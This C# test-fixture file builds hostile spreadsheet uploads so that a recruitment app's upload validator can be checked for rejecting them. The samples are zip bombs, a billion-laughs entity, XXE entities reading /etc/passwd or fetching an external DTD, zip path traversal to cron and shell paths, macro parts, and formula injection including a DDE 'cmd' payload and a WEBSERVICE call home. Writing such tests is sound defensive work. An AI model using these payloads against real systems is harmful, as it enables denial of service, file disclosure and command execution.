using System.Buffers.Binary;
using System.IO.Compression;
using Polyphony.Sheets;
using Polyphony.Tests.Sheets;
using static Polyphony.Web.Tests.Recruitment.Corpus;

namespace Polyphony.Web.Tests.Recruitment;

/// <summary>Files that somebody made to harm: bombs, entities, paths that lead out, macros, formulas.</summary>
internal static class HostileFiles
{
    private const string Head = "<row r=\"1\"><c r=\"A1\" t=\"str\"><v>id</v></c><c r=\"B1\" t=\"str\"><v>gender</v></c><c r=\"C1\" t=\"str\"><v>âge</v></c></row>";
    private const string Person = "<row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"B2\" t=\"str\"><v>woman</v></c><c r=\"C2\" t=\"str\"><v>30+</v></c></row>";

    public static IEnumerable<CorpusFile> All() => [.. Bombs(), .. Xml(), .. Paths(), .. Programs()];

    /// <summary>About half a megabyte that unpacks to half a gigabyte.</summary>
    public static byte[] Bomb()
    {
        using MemoryStream stream = new();
        stream.Write(Workbook.OfXml(Head + Person));
        using (ZipArchive zip = new(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry("xl/worksheets/sheet1.xml")!.Delete();
        }

        using MemoryStream bomb = new();
        using (ZipArchive from = new(stream, ZipArchiveMode.Read))
        using (ZipArchive to = new(bomb, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (ZipArchiveEntry part in from.Entries)
            {
                using Stream source = part.Open();
                using Stream target = to.CreateEntry(part.FullName).Open();
                source.CopyTo(target);
            }

            byte[] blank = new byte[1_000_000];
            Array.Fill(blank, (byte)' ');
            using Stream sheet = to.CreateEntry("xl/worksheets/sheet1.xml").Open();
            for (int i = 0; i < 500; i++)
            {
                sheet.Write(blank);
            }
        }

        return bomb.ToArray();
    }

    private static CorpusFile[] Bombs()
    {
        byte[] bomb = Workbook.OfXml(new string(' ', 60_000_000));
        return
        [
            Bad("bomb-in-the-sheet.xlsx", Door.Pool, bomb, "file-unpacks-too-large"),
            Bad("bomb-in-the-sheet-of-quotas.xlsx", Door.Quotas, bomb, "file-unpacks-too-large"),
            Bad("bomb-in-the-texts.xlsx", Door.Pool, Workbook.OfXml(Head + Person, ("xl/sharedStrings.xml", "<sst><si><t>" + new string('a', 60_000_000) + "</t></si></sst>")), "file-unpacks-too-large"),
            Bad("bomb-in-a-part-nobody-reads.xlsx", Door.Pool, Workbook.OfXml(Head + Person, ("xl/media/picture.bin", new string('\0', 60_000_000))), "file-unpacks-too-large"),
            Bad("small-but-a-thousand-to-one.xlsx", Door.Pool, Workbook.OfXml(Head + Person + new string(' ', 5_000_000)), "file-unpacks-too-large"),
            Bad("bomb-renamed.csv", Door.Pool, bomb, "file-unpacks-too-large"),
            Bad("too-many-parts.xlsx", Door.Pool, Workbook.OfXml(Head + Person, [.. Enumerable.Range(0, SheetLimits.Entries).Select(i => ($"xl/p{i}", "x"))]), "file-unpacks-too-large"),
        ];
    }

    private static CorpusFile[] Xml() =>
    [
        Bad("billion-laughs.xlsx", Door.Pool, WithSheet("<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>" + Sheet("<c r=\"A1\" t=\"str\"><v>&c;</v></c>")), "file-not-xlsx"),
        Bad("entity-that-reads-a-file.xlsx", Door.Pool, WithSheet("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>" + Sheet("<c r=\"A1\" t=\"str\"><v>&a;</v></c>")), "file-not-xlsx"),
        Bad("entity-that-calls-home.xlsx", Door.Quotas, WithSheet("<!DOCTYPE x SYSTEM \"http://example.org/evil.dtd\">" + Sheet("")), "file-not-xlsx"),
        Bad("document-type-in-the-texts.xlsx", Door.Pool, Workbook.OfXml(Head + Person, ("xl/sharedStrings.xml", "<!DOCTYPE x><sst/>")), "file-not-xlsx"),
        Bad("document-type-in-the-styles.xlsx", Door.Pool, Workbook.OfXml(Head + Person, ("xl/styles.xml", "<!DOCTYPE x><styleSheet/>")), "file-not-xlsx"),
        Bad("unknown-entity.xlsx", Door.Pool, Workbook.OfXml("<row r=\"1\"><c r=\"A1\" t=\"str\"><v>&nobody;</v></c></row>"), "file-not-xlsx"),
        Bad("sheet-elsewhere.xlsx", Door.Pool, WithLink("Target=\"http://example.org/sheet.xml\" TargetMode=\"External\""), "file-not-xlsx"),
        Bad("sheet-on-the-disk.xlsx", Door.Pool, WithLink("Target=\"file:///etc/passwd\""), "file-not-xlsx"),
        Bad("sheet-up-the-path.xlsx", Door.Pool, WithLink("Target=\"../../../../etc/passwd\""), "file-not-xlsx"),
    ];

    private static CorpusFile[] Paths() =>
    [
        Bad("path-up.xlsx", Door.Pool, Workbook.OfXml(Head + Person, ("../../evil.sh", "x")), "file-not-xlsx"),
        Bad("path-from-the-root.xlsx", Door.Pool, Workbook.OfXml(Head + Person, ("/etc/cron.d/evil", "x")), "file-not-xlsx"),
        Bad("path-of-windows.xlsx", Door.Quotas, Workbook.OfXml(Head + Person, ("xl\\..\\evil.bat", "x")), "file-not-xlsx"),
        Bad("encrypted-part.xlsx", Door.Pool, WithFlag(Workbook.OfXml(Head + Person)), "file-old-or-encrypted"),
        Bad("unknown-compression.xlsx", Door.Pool, WithMethod(Workbook.OfXml(Head + Person), 98), "file-not-xlsx"),
    ];

    private static CorpusFile[] Programs() =>
    [
        Bad("macros.xlsm", Door.Pool, Workbook.OfXml(Head + Person, ("xl/vbaProject.bin", "x")), "file-with-macros"),
        Bad("macros-renamed.xlsx", Door.Pool, Workbook.OfXml(Head + Person, ("xl/vbaProject.bin", "x")), "file-with-macros"),
        Bad("macros-of-quotas.xlsx", Door.Quotas, Workbook.OfXml(Head + Person, ("xl/VBAPROJECT.BIN", "x")), "file-with-macros"),
        Bad("formula.xlsx", Door.Pool, Workbook.OfXml(Head + "<row r=\"2\"><c r=\"A2\"><f>1+1</f><v>2</v></c><c r=\"B2\" t=\"str\"><v>woman</v></c><c r=\"C2\" t=\"str\"><v>30+</v></c></row>"), "cell-is-formula@2:A"),
        Bad("formula-without-a-value.xlsx", Door.Pool, Workbook.OfXml(Head + "<row r=\"2\"><c r=\"A2\"><f>NOW()</f></c><c r=\"B2\" t=\"str\"><v>woman</v></c></row>"), "cell-is-formula@2:A"),
        Bad("formula-that-calls-home.xlsx", Door.Pool, Workbook.OfXml(Head + "<row r=\"2\"><c r=\"A2\" t=\"str\"><f>WEBSERVICE(\"http://example.org/\")</f><v>1</v></c><c r=\"B2\" t=\"str\"><f>cmd|'/C calc'!A0</f><v>woman</v></c></row>"), "cell-is-formula@2:A", "cell-is-formula@2:B"),
        Bad("formula-shared.xlsx", Door.Quotas, Workbook.OfXml("<row r=\"1\"><c r=\"A1\" t=\"str\"><v>feature</v></c></row><row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"0\"/><v>1</v></c></row>"), "cell-is-formula@2:A"),
        Bad("formula-in-the-header.xlsx", Door.Pool, Workbook.OfXml("<row r=\"1\"><c r=\"A1\" t=\"str\"><f>\"i\"&amp;\"d\"</f><v>id</v></c></row>"), "cell-is-formula@1:A"),
    ];

    private static string Sheet(string cells) => $"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\">{cells}</row></sheetData></worksheet>";

    private static byte[] WithSheet(string xml) => Workbook.Zip(
        ("xl/workbook.xml", WorkbookXml),
        ("xl/_rels/workbook.xml.rels", Links("Target=\"worksheets/sheet1.xml\"")),
        ("xl/worksheets/sheet1.xml", xml));

    private static byte[] WithLink(string target) => Workbook.Zip(
        ("xl/workbook.xml", WorkbookXml),
        ("xl/_rels/workbook.xml.rels", Links(target)),
        ("xl/worksheets/sheet1.xml", Sheet("")));

    private const string WorkbookXml = "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";

    private static string Links(string target) => $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"sheet\" {target}/></Relationships>";

    /// <summary>Marks every part as encrypted, in its own header and in the list of parts.</summary>
    private static byte[] WithFlag(byte[] zip) => Patch(zip, (header, at) => header[at] |= 1, 6, 8);

    /// <summary>Says that every part is packed by another method.</summary>
    private static byte[] WithMethod(byte[] zip, byte method) => Patch(zip, (header, at) => header[at] = method, 8, 10);

    private static byte[] Patch(byte[] zip, Action<byte[], int> change, int inHeader, int inList)
    {
        for (int at = 0; at + 4 <= zip.Length; at++)
        {
            uint signature = BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(at));
            if (signature is 0x04034b50 or 0x02014b50)
            {
                change(zip, at + (signature == 0x04034b50 ? inHeader : inList));
            }
        }

        return zip;
    }
}
